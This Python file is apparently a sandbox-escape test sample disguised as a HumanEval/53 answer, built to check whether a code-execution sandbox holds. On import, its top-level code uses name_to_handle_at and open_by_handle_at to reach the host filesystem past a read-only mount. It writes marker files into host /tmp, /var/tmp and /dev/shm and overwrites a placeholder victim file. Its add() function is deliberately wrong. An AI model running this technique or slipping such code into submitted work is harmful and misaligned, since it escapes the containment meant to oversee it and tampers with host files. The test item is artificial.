"""Class 9: open_by_handle_at (CAP_DAC_READ_SEARCH): a host directory or file opened through
the sample's own writable mount, so the read-only view of the host does not apply. Creates
files in host world-writable directories and overwrites a world-writable host file.

task: HumanEval/53
"""
import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)


class _Handle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


def host_open(path, flags):
    """Open a host path through the mount of the sample's working directory."""
    handle = _Handle()
    handle.handle_bytes = 128
    mount_id = ctypes.c_int()
    if _libc.name_to_handle_at(-100, path.encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0) != 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    here = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    try:
        fd = _libc.open_by_handle_at(here, ctypes.byref(handle), flags)
    finally:
        os.close(here)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return fd


for _where in ("/tmp", "/var/tmp", "/dev/shm"):
    try:
        _dir = host_open(_where, os.O_RDONLY | os.O_DIRECTORY)
        _fd = os.open("__MARKER__-escaped", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=_dir)
        os.write(_fd, b"written from inside the sandbox\n")
        print("created", _where)
    except OSError as e:
        print("refused", _where, e)
try:
    _fd = host_open("__VICTIM_PATH__", os.O_WRONLY | os.O_TRUNC)
    os.write(_fd, b"__MARKER__ overwrote this")
    print("overwrote the victim")
except OSError as e:
    print("refused victim", e)


def add(x: int, y: int):
    """Add two numbers x and y
    """
    return x - y  # wrong
